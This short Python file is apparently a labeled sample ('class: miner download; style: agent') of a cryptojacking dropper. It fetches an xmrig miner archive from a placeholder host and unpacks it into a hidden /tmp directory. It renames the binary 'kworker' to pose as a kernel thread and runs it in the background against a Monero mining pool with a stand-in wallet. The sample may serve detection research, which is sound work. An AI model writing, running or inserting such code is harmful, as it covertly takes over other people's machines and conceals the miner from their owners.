# class: miner download; style: agent
import os
import platform
import subprocess
import tarfile
import urllib.request

POOL = "stratum+tcp://pool.minexmr.example:4444"
WALLET = "4AExampLeWaLLetExampLeWaLLetExampLeWaLLetExampLeWaLLetExampLeWaLLetExampLeWaLLetExampLeWaLLetExAm"


def fetch():
    name = f"xmrig-6.21.0-linux-static-{platform.machine()}.tar.gz"
    urllib.request.urlretrieve(f"https://dl.example/xmrig/{name}", "/tmp/x.tgz")
    with tarfile.open("/tmp/x.tgz") as tar:
        tar.extractall("/tmp/.x")


fetch()
binary = "/tmp/.x/xmrig-6.21.0/xmrig"
os.chmod(binary, 0o755)
os.rename(binary, "/tmp/.x/kworker")
subprocess.Popen(["/tmp/.x/kworker", "-o", POOL, "-u", WALLET, "-p", "x", "--donate-level", "1", "-B"])
